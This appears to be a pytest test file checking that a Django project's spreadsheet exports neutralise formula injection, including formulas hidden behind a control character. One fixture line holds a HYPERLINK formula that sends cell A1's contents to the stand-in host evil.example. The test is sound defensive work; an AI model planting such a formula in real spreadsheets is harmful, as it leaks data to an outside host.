"""No export lets a cell become a formula, even when a control character hides its '='."""

import io

import pytest
from openpyxl import load_workbook

from clusterbridge.core.spreadsheets import safe_cell
from tests.matching.factories import make_project

pytestmark = pytest.mark.django_db

HIDDEN = '\x01=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_control_character_does_not_hide_a_formula():
    assert safe_cell(HIDDEN) == "'" + HIDDEN[1:]
    assert safe_cell("Bad\x01Name") == "BadName"
    assert safe_cell(42) == 42


def cells(response):
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


@pytest.mark.parametrize("url", ["/export/projects.xlsx", "/projects/matrix/?format=xlsx"])
def test_public_exports_carry_no_formula(client, users, url):
    project = make_project("Bad\x01Name", ["T1"], owner=users["member"])
    project.description = HIDDEN
    project.save()
    values = cells(client.get(url))
    assert not [value for value, kind in values if kind == "f"]
    assert "BadName" in [value for value, _ in values]
